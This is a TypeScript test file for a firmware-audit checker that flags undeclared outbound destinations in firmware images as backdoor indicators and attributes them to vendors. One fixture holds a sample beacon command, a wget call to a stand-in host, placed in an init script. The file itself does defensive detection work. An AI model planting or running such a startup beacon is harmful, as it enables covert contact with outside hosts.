import { describe, expect, it } from 'vitest';
import type { Indicator } from '../../firmware/indicators/types.js';
import { checkReport } from '../report.js';
import {
  ACME,
  agreement,
  ALL_CLAUSES,
  deployment,
  GLOBEX,
  IMAGE_G,
  logged,
  NOW,
  release,
} from '../test-support.js';

const beacon: Indicator = {
  kind: 'outbound_destination',
  rule: 'startup-url',
  path: 'etc/init.d/S99beacon',
  line: 3,
  detail: 'contacts beacon.globex.example',
  evidence: 'wget http://beacon.globex.example/x',
  host: 'beacon.globex.example',
  declared: false,
};
const declaredNtp: Indicator = { ...beacon, host: 'ntp.example', declared: true, detail: 'ntp' };

function run(indicators: Indicator[]) {
  return checkReport(
    {
      statements: [logged(release(GLOBEX, IMAGE_G), 0)],
      firmware: [{ image: 'globex.tar.gz', sha256: IMAGE_G, indicators }],
    },
    { now: NOW },
  ).findings;
}

describe('firmware-backdoor-indicator', () => {
  describe('when the image holds an undeclared outbound destination', () => {
    it('reports it on the release, with the file, line and the release statement', () => {
      const [f, ...rest] = run([beacon]);
      expect(rest).toEqual([]);
      expect(f?.subject).toEqual({ vendor: GLOBEX, release: `sha256:${IMAGE_G}` });
      expect(f?.evidence[0]).toMatchObject({ type: 'file', path: 'etc/init.d/S99beacon', line: 3 });
      expect(f?.evidence[1]).toMatchObject({ type: 'statement', index: 0 });
    });
  });

  describe('when the destination is declared in the MUD file', () => {
    it('reports nothing', () => {
      expect(run([declaredNtp])).toEqual([]);
    });
  });
});

describe('when no release names the scanned image', () => {
  it('attributes it to the vendor of the device that runs it and breaks that agreement', () => {
    const findings = checkReport(
      {
        statements: [
          logged(agreement(ACME, [...ALL_CLAUSES]), 0),
          logged(agreement(GLOBEX, [...ALL_CLAUSES]), 1),
          logged(deployment('globex-1', GLOBEX, IMAGE_G), 2),
        ],
        firmware: [{ image: 'globex.tar.gz', sha256: IMAGE_G, indicators: [beacon] }],
      },
      { now: NOW },
    ).findings.filter((f) => f.kind === 'firmware-backdoor-indicator');
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      subject: { vendor: GLOBEX, release: `sha256:${IMAGE_G}` },
      breaks: { type: 'clause', agreement: 1, clause: 'no-spy' },
    });
  });

  it('is first seen when the image was first seen deployed, and names the devices running it', () => {
    const [f] = checkReport(
      {
        statements: [
          logged(agreement(GLOBEX, [...ALL_CLAUSES]), 0),
          logged(deployment('globex-2', GLOBEX, IMAGE_G, '2026-03-05T00:00:00Z'), 1),
          logged(deployment('globex-1', GLOBEX, IMAGE_G, '2026-02-10T00:00:00Z'), 2),
        ],
        firmware: [{ image: 'globex.tar.gz', sha256: IMAGE_G, indicators: [beacon] }],
      },
      { now: NOW },
    ).findings.filter((x) => x.kind === 'firmware-backdoor-indicator');
    expect(f?.firstSeen).toBe('2026-02-10T00:00:00.000Z');
    expect(f?.lastSeen).toBe(new Date(NOW).toISOString());
    expect(f?.explanation).toContain('run by globex-1, globex-2');
  });

  it('takes the vendor from the inventory when no deployment statement names it', () => {
    const [f] = checkReport(
      {
        statements: [logged(agreement(GLOBEX, [...ALL_CLAUSES]), 0)],
        inventory: [{ id: 'g-1', vendor: GLOBEX, model: 'R1', firmware: { sha256: IMAGE_G } }],
        firmware: [{ image: 'globex.tar.gz', sha256: IMAGE_G, indicators: [beacon] }],
      },
      { now: NOW },
    ).findings.filter((x) => x.kind === 'firmware-backdoor-indicator');
    expect(f?.breaks).toEqual({ type: 'clause', agreement: 0, clause: 'no-spy' });
  });

  it('falls back to nospy’s own rule when no device runs it', () => {
    const [f] = checkReport(
      {
        statements: [logged(agreement(GLOBEX, [...ALL_CLAUSES]), 0)],
        firmware: [{ image: 'globex.tar.gz', sha256: IMAGE_G, indicators: [beacon] }],
      },
      { now: NOW },
    ).findings;
    expect(f?.breaks).toEqual({ type: 'rule', pack: 'nospy', rule: 'no-backdoor-indicators' });
    expect(f?.subject).toEqual({ release: `sha256:${IMAGE_G}` });
  });
});
